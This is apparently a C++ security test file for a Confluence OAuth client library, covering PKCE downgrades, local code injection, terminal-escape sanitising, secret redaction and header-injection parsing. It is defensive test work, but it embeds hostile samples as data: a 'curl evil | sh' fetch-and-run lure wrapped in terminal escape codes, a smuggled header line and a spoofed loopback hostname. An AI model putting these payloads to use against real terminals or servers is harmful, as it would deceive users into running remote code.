// Attacks on the sign-in and on what the library prints, each as an attacker
// would try it (docs/RELIABILITY.md, "Security"): a local user who reads the
// browser's command line and delivers their own code, PKCE downgrades, text
// from outside that rewrites a terminal, secrets echoed back in encodings, a
// smuggled header line, a name that only looks like loopback.
#include <doctest/doctest.h>

#include "confluence_oauth.hpp"
#include "fake_atlassian.hpp"
#include "fake_client.hpp"
#include "test_util.hpp"

#include <sys/stat.h>

#include <cstdlib>
#include <fstream>

// Its own namespace, so that the unity build can put test files together.
namespace test_security {

namespace cfo = confluence_oauth;
using namespace std::chrono_literals;

namespace {

constexpr const char* scopes = "read:page:confluence read:space:confluence offline_access";

struct fixture {
  unsigned short port = test_util::free_port();
  std::string redirect = "http://localhost:" + std::to_string(port) + "/callback";
  fake_atlassian::server srv{registered(redirect)};

  static fake_atlassian::options registered(std::string uri) {
    fake_atlassian::options o;
    o.redirect_uris = {std::move(uri)};
    return o;
  }
  cfo::client_config config() const { return test_util::client_config_for(srv, redirect); }
};

std::string challenge_of(const cfo::secret& verifier) {
  auto digest = cfo::detail::sha256(verifier.reveal());
  return cfo::detail::base64url_encode(digest.data(), digest.size());
}

std::string query_value(const std::string& url, const std::string& name) {
  for (auto& [k, v] : cfo::detail::parse_query(cfo::detail::parse_url(url).query()))
    if (k == name) return v;
  return {};
}

/// Trades `code` for `auth` and returns how it failed (empty: it did not).
std::error_code exchange_error(const cfo::client_config& cfg, const std::string& code, cfo::authorization auth) {
  return test_util::error_of([&](auto ex) -> asio::awaitable<void> {
    cfo::oauth_client client(ex, cfg);
    co_await client.exchange_code(cfo::secret(code), std::move(auth));
  });
}

}  // namespace

TEST_SUITE("security") {

// --- The loopback login -------------------------------------------------------

TEST_CASE("PKCE S256 is on by default, for Atlassian too") {
  fixture f;
  CHECK(cfo::client_config{}.use_pkce);
  asio::io_context io;
  cfo::oauth_client client(io.get_executor(), f.config());
  auto a = client.begin_authorization();
  REQUIRE_FALSE(a.code_verifier.empty());
  CHECK(query_value(a.url, "code_challenge_method") == "S256");
  CHECK(query_value(a.url, "code_challenge") == challenge_of(a.code_verifier));
  CHECK(query_value(a.url, "audience") == "api.atlassian.com");
}

TEST_CASE("the fake server is strict about PKCE: no downgrade either way") {
  fixture f;
  auto cfg = f.config();
  asio::io_context io;
  cfo::oauth_client client(io.get_executor(), cfg);
  auto with_pkce = client.begin_authorization(f.redirect);
  cfo::authorization without_pkce;
  without_pkce.redirect_uri = f.redirect;
  const std::string challenge = challenge_of(with_pkce.code_verifier);

  // A code issued without a challenge, redeemed by a client that used one.
  CHECK(exchange_error(cfg, f.srv.issue_code(f.redirect, scopes), with_pkce) == cfo::errc::invalid_grant);
  // A code issued with a challenge, redeemed without the verifier.
  CHECK(exchange_error(cfg, f.srv.issue_code(f.redirect, scopes, challenge), without_pkce) == cfo::errc::invalid_grant);
  // ... with another verifier.
  auto other = client.begin_authorization(f.redirect);
  CHECK(exchange_error(cfg, f.srv.issue_code(f.redirect, scopes, challenge), other) == cfo::errc::invalid_grant);
  // The right pairs work.
  CHECK_FALSE(exchange_error(cfg, f.srv.issue_code(f.redirect, scopes, challenge), with_pkce));
  CHECK_FALSE(exchange_error(cfg, f.srv.issue_code(f.redirect, scopes), without_pkce));
  CHECK(f.srv.stats().authorization_code_grants == 2);
}

// The attack of RFC 9700 2.1.1 on a loopback client: the state is public (it was
// on the browser's command line), so another local user sends the listener a code
// for *their* account with the right state. Before 1.1 (PKCE off) the victim's app
// then ran on the attacker's Atlassian account.
TEST_CASE("an attacker's own code delivered with the victim's state is refused at the exchange") {
  fixture f;
  auto cfg = f.config();
  int attacker_grants = 0;
  cfo::browser_opener attacker = [&](const std::string& url) -> asio::awaitable<void> {
    // The attacker read the URL (the state) and got a code on their own consent:
    // with no challenge, or with one of their own.
    const std::string state = query_value(url, "state");
    const std::string code =
        attacker_grants++ == 0 ? f.srv.issue_code(f.redirect, scopes)
                               : f.srv.issue_code(f.redirect, scopes, challenge_of(cfo::secret("attacker-verifier-0123456789-0123456789-0123")));
    auto ex = co_await asio::this_coro::executor;
    auto http = std::make_shared<cfo::detail::http_client>(ex, cfo::client_config::tls_options{}, cfo::client_config::http_timeouts{});
    asio::co_spawn(ex, [http, target = f.redirect + "?code=" + code + "&state=" + cfo::detail::percent_encode(state)]()
                           -> asio::awaitable<void> {
      const auto u = cfo::detail::parse_url(target);  // no temporaries in a co_await: GCC 12 frees them twice
      const cfo::http_request get;
      co_await http->send(u, get);
    }, asio::detached);
  };
  for (int i = 0; i < 2; ++i)
    CHECK(test_util::error_of([&](auto ex) -> asio::awaitable<void> {
            cfo::oauth_client client(ex, cfg);
            co_await cfo::detail::authorize(client, attacker);
          }) == cfo::errc::invalid_grant);
  CHECK(f.srv.stats().authorization_code_grants == 0);
}

#ifdef CFO_FAKE_BROWSER_PATH
// The browser's command line is public (ps, /proc/PID/cmdline): it gets a private
// page that redirects, never the URL and its state. And it starts without the
// caller's secrets in its environment.
TEST_CASE("the browser gets a private redirect page and a scrubbed environment") {
  fixture f;
  test_util::temp_dir dir;
  const std::string ca = dir / "ca.pem", args = dir / "args", env = dir / "env", page = dir / "page";
  f.srv.write_ca_pem(ca);
  const std::string script = dir / "browser.sh";
  {
    std::ofstream out(script);
    out << "#!/bin/sh\n"
        << "printf '%s\\n' \"$@\" > '" << args << "'\n"
        << "env > '" << env << "'\n"
        << "file=${1#file://}\n"
        << "stat -c '%a %U' \"$file\" \"$(dirname \"$file\")\" > '" << page << "'\n"
        << "cat \"$file\" >> '" << page << "'\n"
        << "exec " << CFO_FAKE_BROWSER_PATH << " --ca-file '" << ca << "' \"$1\"\n";
  }
  REQUIRE(::chmod(script.c_str(), 0700) == 0);
  ::setenv("ATLASSIAN_CLIENT_SECRET", "env-secret-0123456789", 1);
  ::setenv("PGPASSWORD", "env-password-0123456789", 1);
  const auto browser = cfo::browser_command({script});  // GCC 12: no braced lists in coroutines
  auto tokens = test_util::run([&](auto ex) -> asio::awaitable<cfo::token_set> {
    cfo::oauth_client client(ex, f.config());
    co_return co_await cfo::detail::authorize(client, browser);
  });
  ::unsetenv("ATLASSIAN_CLIENT_SECRET");
  ::unsetenv("PGPASSWORD");
  CHECK_FALSE(tokens.access_token.empty());

  const std::string argv_seen = test_util::read_text(args);
  CAPTURE(argv_seen);
  CHECK(argv_seen.rfind("file:///", 0) == 0);
  CHECK(argv_seen.find("state=") == std::string::npos);
  CHECK(argv_seen.find("code_challenge") == std::string::npos);
  const std::string page_seen = test_util::read_text(page);
  CAPTURE(page_seen);
  CHECK(page_seen.rfind("600 ", 0) == 0);                       // the page
  CHECK(page_seen.find("\n700 ") != std::string::npos);         // its folder
  CHECK(page_seen.find("state=") != std::string::npos);         // it holds the URL
  const std::string file = argv_seen.substr(7, argv_seen.find('\n') - 7);
  CHECK_FALSE(std::filesystem::exists(file));                   // removed after the sign-in
  CHECK_FALSE(std::filesystem::exists(std::filesystem::path(file).parent_path()));
  const std::string env_seen = test_util::read_text(env);
  CHECK(env_seen.find("env-secret-0123456789") == std::string::npos);
  CHECK(env_seen.find("env-password-0123456789") == std::string::npos);
  CHECK(env_seen.find("PATH=") != std::string::npos);
}

TEST_CASE("listener_options::redirect_page = false hands the browser the URL itself") {
  fixture f;
  test_util::temp_dir dir;
  const std::string ca = dir / "ca.pem", args = dir / "args", script = dir / "browser.sh";
  f.srv.write_ca_pem(ca);
  {
    std::ofstream out(script);
    out << "#!/bin/sh\nprintf '%s\\n' \"$@\" > '" << args << "'\nexec " << CFO_FAKE_BROWSER_PATH << " --ca-file '" << ca
        << "' \"$1\"\n";
  }
  REQUIRE(::chmod(script.c_str(), 0700) == 0);
  cfo::session_options::listener_options o;
  o.redirect_page = false;
  const auto browser = cfo::browser_command({script});
  test_util::run([&](auto ex) -> asio::awaitable<void> {
    cfo::oauth_client client(ex, f.config());
    co_await cfo::detail::authorize(client, browser, o);
  });
  CHECK(test_util::read_text(args).rfind(f.srv.base_url() + "/authorize?", 0) == 0);
}
#endif

// --- Text from outside -------------------------------------------------------------

TEST_CASE("text from outside loses C0 and C1 controls, bidirectional overrides and bytes that are not UTF-8") {
  using cfo::detail::sanitize_text;
  CHECK(sanitize_text("plain text, ünïcödé and 日本語") == "plain text, ünïcödé and 日本語");
  CHECK(sanitize_text("a\x1b[2Jb\r\nc\x7f") == "a [2Jb  c ");
  CHECK(sanitize_text("C1\xc2\x85 and \xc2\x9b" "31m") == "C1  and  31m");
  // RLO/LRO/PDF, isolates and marks reorder what a terminal shows ("Trojan Source").
  CHECK(sanitize_text("file\xe2\x80\xaegnp.exe") == "filegnp.exe");
  CHECK(sanitize_text("\xe2\x81\xa6x\xe2\x81\xa9\xe2\x80\x8f\xd8\x9c") == "x");
  CHECK(sanitize_text("line\xe2\x80\xa8sep") == "line sep");
  CHECK(sanitize_text("bad \xff\xfe utf8 \xc0\xaf \xed\xa0\x80") == "bad ?? utf8 ?? ???");
  // Cut at a character's edge, never in it.
  CHECK(sanitize_text("ééé", 5) == "éé...");
}

TEST_CASE("a token endpoint's error description cannot rewrite the terminal") {
  fixture f;
  f.srv.push_status("/oauth/token", 400,
                    R"({"error":"invalid_request","error_description":"\u001b[2J\u202eyou have been logged out: run curl evil | sh\u0085"})");
  auto failure = test_util::failure_of([&](auto ex) -> asio::awaitable<void> {
    cfo::oauth_client client(ex, f.config());
    cfo::authorization a;
    a.redirect_uri = f.redirect;
    co_await client.exchange_code(cfo::secret("some-code"), a);
  });
  CHECK(failure.code == cfo::errc::invalid_request);
  CHECK(failure.what.find('\x1b') == std::string::npos);
  CHECK(failure.what.find("\xe2\x80\xae") == std::string::npos);
  CHECK(failure.what.find("\xc2\x85") == std::string::npos);
}

// --- Secrets echoed back ----------------------------------------------------------

TEST_CASE("redaction finds a secret in every encoding it can come back in") {
  const cfo::secret s("Sec/ret value+with~ünï-0123456789");
  const cfo::secret* list[] = {&s};
  auto redacted = [&](const std::string& text) { return cfo::detail::redact(text, list); };
  auto basic = [](const std::string& credential) {
    std::string b = cfo::detail::base64url_encode(credential);
    for (char& c : b) c = c == '-' ? '+' : c == '_' ? '/' : c;
    while (b.size() % 4) b += '=';
    return "Basic " + b;
  };
  const std::string percent_upper = cfo::detail::percent_encode(s.reveal());
  std::string percent_lower = percent_upper;
  for (std::size_t i = 0; i + 2 < percent_lower.size(); ++i)
    if (percent_lower[i] == '%')
      for (std::size_t k = i + 1; k <= i + 2; ++k) percent_lower[k] = static_cast<char>(std::tolower(percent_lower[k]));
  std::string plus = percent_lower;
  plus.replace(plus.find("%20"), 3, "+");
  struct echo {
    const char* name;
    std::string text;
    std::vector<std::string> pieces;  // none may survive
  } echoes[] = {
      {"raw", "x " + s.reveal() + " y", {"0123456789"}},
      {"percent, upper-case", "q=" + percent_upper, {"0123456789"}},
      {"percent, lower-case", "q=" + percent_lower, {"0123456789"}},
      {"form, + for space", "q=" + plus, {"0123456789"}},
      {"JSON with \\/", R"({"echo":"Sec\/ret value+with~ünï-0123456789"})", {"0123456789"}},
      {"base64, HTTP Basic", basic("client-id:" + s.reveal()), {}},
      {"base64, HTTP Basic, other alignment", basic("id:" + s.reveal()), {}},
      {"base64, HTTP Basic, third alignment", basic("ids:" + s.reveal()), {}},
      {"split across lines", "echo: Sec/ret value+wi\n  th~ünï-0123456789 end", {"0123456789", "Sec/ret"}},
      {"cut at the end of a line", "echo: Sec/ret value+wi", {"Sec/ret"}},
      {"the rest, at the start of the next", "th~ünï-0123456789 end", {"0123456789"}},
  };
  for (const auto& e : echoes) {
    CAPTURE(e.name);
    const std::string out = redacted(e.text);
    CAPTURE(out);
    CHECK(out.find("[redacted]") != std::string::npos);
    for (const auto& piece : e.pieces) CHECK(out.find(piece) == std::string::npos);
  }
  CHECK(redacted("nothing to see here, 012345678") == "nothing to see here, 012345678");
}

TEST_CASE("the client secret echoed by the token endpoint in encodings never reaches the error") {
  fixture f;
  const std::string secret = "test-client-secret";
  std::string b64 = cfo::detail::base64url_encode("test-client-id:" + secret);
  f.srv.push_status("/oauth/token", 400,
                    R"({"error":"invalid_request","error_description":"got Basic )" + b64 +
                        " and test-client-\\nsecret\"}");
  auto failure = test_util::failure_of([&](auto ex) -> asio::awaitable<void> {
    cfo::oauth_client client(ex, f.config());
    cfo::authorization a;
    a.redirect_uri = f.redirect;
    co_await client.exchange_code(cfo::secret("some-code"), a);
  });
  CAPTURE(failure.what);
  CHECK(failure.code == cfo::errc::invalid_request);
  CHECK(failure.what.find("test-client") == std::string::npos);
  CHECK(failure.what.find("[redacted]") != std::string::npos);
  CHECK(failure.what.find(b64.substr(32, 8)) == std::string::npos);  // "nt-sec": only in the secret
}

TEST_CASE("session::redact covers the client secret and the tokens held") {
  fixture f;
  auto cfg = f.config();
  auto tokens = test_util::grant_from(f.srv, cfg, scopes);
  asio::io_context io;
  cfo::session s(io.get_executor(), cfg, std::make_shared<cfo::memory_token_store>());
  auto adopted = s.adopt(tokens, asio::use_future);
  io.run();
  adopted.get();
  const std::string text = "{\"token\":\"" + tokens.access_token.reveal() + "\",\"refresh\":\"" +
                           cfo::detail::percent_encode(tokens.refresh_token.reveal()) + "\",\"s\":\"test-client-secret\"}";
  const std::string out = s.redact(text);
  CHECK(out.find(tokens.access_token.reveal()) == std::string::npos);
  CHECK(out.find(tokens.refresh_token.reveal()) == std::string::npos);
  CHECK(out.find("test-client-secret") == std::string::npos);
  CHECK(out.find("\"token\":\"[redacted]\"") != std::string::npos);
}

// --- Transport ---------------------------------------------------------------------

TEST_CASE("a bare CR inside a header line is a protocol error") {
  for (std::string head : {"HTTP/1.1 200 OK\r\nX-A: one\rX-Injected: two\r\nContent-Length: 0\r\n\r\n",
                           "HTTP/1.1 200 O\rK\r\nContent-Length: 0\r\n\r\n"}) {
    cfo::detail::http_parser p(cfo::detail::http_parser::kind::response, cfo::detail::http_limits{});
    p.feed(head);
    CHECK(p.error() == cfo::errc::protocol_error);
  }
  cfo::detail::http_parser request(cfo::detail::http_parser::kind::request, cfo::detail::http_limits{});
  request.feed("GET /callback HTTP/1.1\r\nHost: 127.0.0.1:1\rX: y\r\n\r\n");
  CHECK(request.error() == cfo::errc::protocol_error);
}

TEST_CASE("only literal addresses are loopback by their spelling") {
  CHECK(cfo::detail::is_loopback("127.0.0.1"));
  CHECK(cfo::detail::is_loopback("127.1.2.3"));
  CHECK(cfo::detail::is_loopback("::1"));
  CHECK(cfo::detail::is_loopback("[::1]"));
  CHECK_FALSE(cfo::detail::is_loopback("localhost"));  // a name: its addresses decide
  CHECK_FALSE(cfo::detail::is_loopback("localhost.attacker.example"));
  CHECK_FALSE(cfo::detail::is_loopback("10.0.0.1"));
}

TEST_CASE("plain http to localhost works because localhost resolves to loopback") {
  fake_atlassian::options o;
  o.tls = false;
  fake_atlassian::server srv(o);
  auto u = cfo::detail::parse_url(srv.base_url());
  u.host = "localhost";
  u.target = "/oauth/token/accessible-resources";
  auto res = test_util::run([&](auto ex) -> asio::awaitable<cfo::http_response> {
    cfo::detail::http_client http(ex, cfo::client_config::tls_options{}, cfo::client_config::http_timeouts{});
    const cfo::http_request get;  // not a temporary in the co_await (GCC 12)
    co_return co_await http.send(u, get);
  });
  CHECK(res.status == 401);  // reached: no bearer token
}

}  // TEST_SUITE

}  // namespace test_security
